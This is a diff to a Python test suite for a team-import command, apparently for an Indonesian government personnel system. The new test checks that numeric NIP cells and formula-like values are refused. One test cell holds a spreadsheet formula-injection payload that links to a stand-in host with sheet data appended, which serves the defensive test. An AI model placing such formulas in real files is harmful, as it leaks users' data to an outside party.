@@ -48,11 +48,11 @@ def test_a_bad_row_means_nothing_is_written(env, app, tmp_path, capsys):
     bad.write_text(
         "unit_code,name,kind,goal,starts_on,ends_on,ketua_nip,member_nips\n"
         "DINKES.P2P,Tim Baik,rutin,Tujuan yang jelas,2026-10-01,2026-12-31,199203082019031007,\n"
-        "DINKES.P2P,Tim Jelek,rutin,Tujuan,2026-10-01,2026-12-31,199999999999999999,\n"
+        "DINKES.P2P,Tim Jelek,rutin,Tujuan,2026-10-01,2026-12-31,199001012015031001,\n"
         "NOPE,Tim Tanpa Unit,rutin,Tujuan,2026-10-01,2026-12-31,,\n")
     assert main(["import", "teams", str(bad)]) == 1
     out = capsys.readouterr().out
-    assert "Row 3: no active employee has NIP 199999999999999999" in out
+    assert "Row 3: no active employee has NIP 199001012015031001" in out
     assert "Row 4: unit NOPE is unknown or has no head" in out
     assert "nothing written" in out
 
@@ -63,3 +63,28 @@ def test_surakarta_ketua_is_not_set_by_import(env, app, tmp_path, capsys):
     assert main(["import", "teams", str(SAMPLES / "teams.csv")]) == 1
     out = capsys.readouterr().out
     assert "sekda" in out and "Ps 15(4)" in out
+
+
+def test_an_nip_number_cell_and_a_formula_name_are_refused(env, app, tmp_path, capsys):
+    from openpyxl import Workbook
+
+    book = Workbook()
+    sheet = book.active
+    sheet.append(["unit_code", "name", "kind", "goal", "starts_on", "ends_on", "ketua_nip", "member_nips"])
+    sheet.append(["DINKES.P2P", "Tim Angka", "rutin", "Tujuan yang jelas", "2026-10-01", "2026-12-31",
+                  199203082019031007, ""])  # the NIP as a number cell
+    sheet.append(["DINKES.P2P", "Tim Anggota", "rutin", "Tujuan yang jelas", "2026-10-01", "2026-12-31",
+                  "", 199407212020012011])
+    sheet.append(["DINKES.P2P", "Tim Rumus", "rutin", "Tujuan yang jelas", "2026-10-01", "2026-12-31", "", ""])
+    sheet.cell(4, 2).value = '=HYPERLINK("http://x.example/?"&A1,"klik")'
+    sheet.cell(4, 2).data_type = "s"
+    sheet.append(["DINKES.P2P", "Tim Tujuan", "rutin", "@SUM(A1)", "2026-10-01", "2026-12-31", "", ""])
+    sheet.cell(5, 4).data_type = "s"
+    path = tmp_path / "teams.xlsx"
+    book.save(path)
+    assert main(["import", "teams", str(path)]) == 1
+    out = capsys.readouterr().out
+    assert "Row 2: “1.99203082019031E+17” went through a number cell" in out and "format the NIP columns as Text" in out
+    assert "Row 3: “1.99407212020012E+17” went through a number cell" in out
+    assert "Row 4: “=HYPERLINK(" in out and "Row 5: “@SUM(A1)” starts with =, +, - or @" in out
+    assert "0 new" in out
